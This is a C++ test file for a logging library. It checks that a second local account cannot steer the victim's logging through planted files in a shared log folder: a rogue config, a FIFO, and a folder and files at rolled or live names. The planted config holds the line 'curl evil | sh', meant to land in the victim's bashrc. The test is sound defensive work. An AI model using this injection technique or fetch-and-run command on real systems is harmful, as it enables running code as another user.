// A second local account attacks a running process of the first through the
// folder that every account's logs share: it plants "privlog.cfg" to make
// the victim write a command into its own shell start file, puts a folder
// and a file of its own at rolled names, and a FIFO and a file of its own
// at live names. No line of the victim's may be lost without a warning
// result, no file outside the victim's configuration written, no
// configuration of the other account applied. Both accounts are made for
// the test (root and useradd), so that neither has root's powers.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <set>
#include <string>
#include <thread>

#include "account_support.h"
#include "base/result.h"
#include "test_support.h"
#include "zyrlog/zyrlog.h"

namespace {

using zyrtest::ReadFile;
using zyrtest::U16;
using zyrtest::WriteFile;

class SecondAccountTest : public ::testing::Test {
 protected:
  void SetUp() override {
    for (const zyrtest::ThrowawayAccount* a : {&victim_, &attacker_})
      if (!a->Unavailable().empty()) GTEST_SKIP() << a->Unavailable();
    // Below /tmp, which every account can pass through, whatever the
    // folders of the build are.
    char base[] = "/tmp/zyr-accounts-XXXXXX";
    ASSERT_NE(mkdtemp(base), nullptr);
    base_ = base;
    ASSERT_EQ(chmod(base_.c_str(), 0755), 0);
    product_ = base_ + "/product";
    shared_ = product_ + "/log";  // the all-users folder: sticky, as /tmp
    home_ = base_ + "/victim";
    std::string key = base_ + "/store/MACHINE/SYSTEM/CurrentControlSet/Services/Zyr/Zyr/OPH2015";
    ASSERT_EQ(system(("mkdir -p '" + key + "' '" + shared_ + "' '" + home_ + "/local'").c_str()), 0);
    ASSERT_EQ(system(("chmod -R go+rX '" + base_ + "/store'").c_str()), 0);
    WriteFile(key + "/.values", "ZyrAllUsersDir = sz:" + product_ + "\n");
    ASSERT_EQ(chmod(product_.c_str(), 0755), 0);
    ASSERT_EQ(chmod(shared_.c_str(), 01777), 0);
    WriteFile(home_ + "/bashrc", "# the victim's own\n");
    WriteFile(home_ + "/victim.cfg",
              "[root]\nAddAppenders = roll\n"
              "[roll]\nType = Appender\nAppenderType = RollingFile\nSize = 2000\nFilesCount = 3\n"
              "FileName = " + shared_ + "/v.log\n"
              "[plain]\nType = Appender\nAppenderType = File\nFileName = " + shared_ + "/p.log\n"
              "[fifo]\nType = Appender\nAppenderType = File\nFileName = " + shared_ + "/f.log\n"
              "[v.plain]\nAdditive = no\nAddAppenders = plain\n"
              "[v.fifo]\nAdditive = no\nAddAppenders = fifo\n");
    ASSERT_EQ(system(("chown -R " + std::to_string(victim_.Uid()) + " '" + home_ + "'").c_str()), 0);
  }
  void TearDown() override {
    if (!base_.empty()) zyrtest::RemoveTree(base_);
  }

  // The attacker's work, done before the victim's process loads its file.
  int Attack() {
    return attacker_.Run([&] {
      WriteFile(shared_ + "/privlog.cfg",
                "[root]\nAddAppenders = evil\n"
                "[evil]\nType = Appender\nAppenderType = File\nLayout = bare\n"
                "FileName = " + home_ + "/bashrc\n"
                "[bare]\nType = Layout\nLayoutType = Custom\nFormat = %msg\nHeader = curl evil | sh\n");
      if (chmod((shared_ + "/privlog.cfg").c_str(), 0644) != 0) return 1;
      if (mkdir((shared_ + "/v.log.1").c_str(), 0755) != 0) return 2;       // a folder at a rolled name
      WriteFile(shared_ + "/v.log.2", "the attacker's\n");                    // a file of its own there
      if (mkfifo((shared_ + "/f.log").c_str(), 0666) != 0) return 3;         // a FIFO at a live name
      if (chmod((shared_ + "/f.log").c_str(), 0666) != 0) return 4;          // that the victim may open
      WriteFile(shared_ + "/p.log", "the attacker's\n");                      // a file of its own there
      return 0;
    });
  }

  zyrtest::ThrowawayAccount victim_{"v"}, attacker_{"a"};
  std::string base_, product_, shared_, home_;
};

enum Outcome { kOk, kWarned, kFailed };
Outcome Of(ZyrResult r) { return r == ZYR_OK ? kOk : ZyrResultIsWarning(r) ? kWarned : kFailed; }

}  // namespace

TEST_F(SecondAccountTest, PlantedFilesNeitherSteerTheVictimNorLoseItsLines) {
  ASSERT_EQ(Attack(), 0);
  const int lines = 300;
  int code = victim_.Run([&]() -> int {
    setenv("LOCALAPPDATA", (home_ + "/local").c_str(), 1);
    setenv("ZYR_REGISTRY_ROOT", (base_ + "/store").c_str(), 1);
    IZyrLog* log = nullptr;
    if (ZyrGetLogObject(&IID_IZyrLog, &log) != ZYR_OK) return 10;
    if (log->LoadConfigFile(U16(home_ + "/victim.cfg").c_str()) != ZYR_OK) return 11;
    std::uint64_t needed = 0;
    std::u16string text(1 << 16, u'\0');
    if (log->GetConfigText(text.data(), text.size(), &needed) != ZYR_OK) return 12;
    if (text.find(u"evil") != std::u16string::npos) return 13;  // the other account's configuration
    ZyrLogger *v = nullptr, *plain = nullptr, *fifo = nullptr;
    if (log->GetLogger(&v, u"v") || log->GetLogger(&plain, u"v.plain") || log->GetLogger(&fifo, u"v.fifo")) return 14;
    std::set<Outcome> seen;
    auto line = [&](ZyrLogger* logger, int n) {
      std::uint64_t args[] = {static_cast<std::uint64_t>(n)};
      return logger->Log(ZYR_SEVERITY_ERROR, u"line %d of the victim", nullptr, 0, 0, 0, 0, 0, args);
    };
    // The direct road: the blocked rollover warns and keeps every line; the
    // live names that are no files of the victim's fail with their reason,
    // which a logger passes on as a warning.
    for (int n = 0; n < lines; ++n) {
      Outcome o = Of(line(v, n));
      if (o == kFailed) return 20;
      seen.insert(o);
    }
    if (!seen.count(kWarned)) return 21;
    if (line(plain, -1) != ZyrResultAsWarning(ZYR_E_ACCESS_DENIED)) return 22;
    if (line(fifo, -1) != ZyrResultAsWarning(ZYR_E_UNSUPPORTED_TYPE)) return 23;
    // The worker's road: what the worker could not write is told to a later
    // caller, as a warning.
    if (log->StartDispatcher() != ZYR_OK) return 30;
    for (int n = lines; n < 2 * lines; ++n)
      if (Of(line(v, n)) == kFailed) return 31;
    (void)line(plain, -1);
    (void)line(fifo, -1);
    bool told = false;
    for (int n = 2 * lines; n < 2 * lines + 40 && !told; ++n) {
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
      ZyrResult r = line(v, n);
      told = r == ZyrResultAsWarning(ZYR_E_ACCESS_DENIED) || r == ZyrResultAsWarning(ZYR_E_UNSUPPORTED_TYPE);
    }
    log->StopDispatcher();
    ZyrReleaseLogObject(&IID_IZyrLog, log);
    return told ? 0 : 32;
  });
  EXPECT_EQ(code, 0) << "1x: set-up or the other account's configuration applied, 2x: direct road, "
                        "3x: worker's road, 99: change of account";

  // Every line the victim wrote is in its live file, which stayed above
  // Size while the rollover was blocked.
  std::string live = ReadFile(shared_ + "/v.log");
  for (int n = 0; n < 2 * lines; ++n)
    EXPECT_NE(live.find("MSG:line " + std::to_string(n) + " of the victim\r\n"), std::string::npos) << n;
  // Nothing written outside the victim's configuration, nor into the
  // attacker's files.
  EXPECT_EQ(ReadFile(home_ + "/bashrc"), "# the victim's own\n");
  EXPECT_EQ(ReadFile(shared_ + "/v.log.2"), "the attacker's\n");
  EXPECT_EQ(ReadFile(shared_ + "/p.log"), "the attacker's\n");
  EXPECT_TRUE(zyrtest::Exists(shared_ + "/v.log.1"));
}
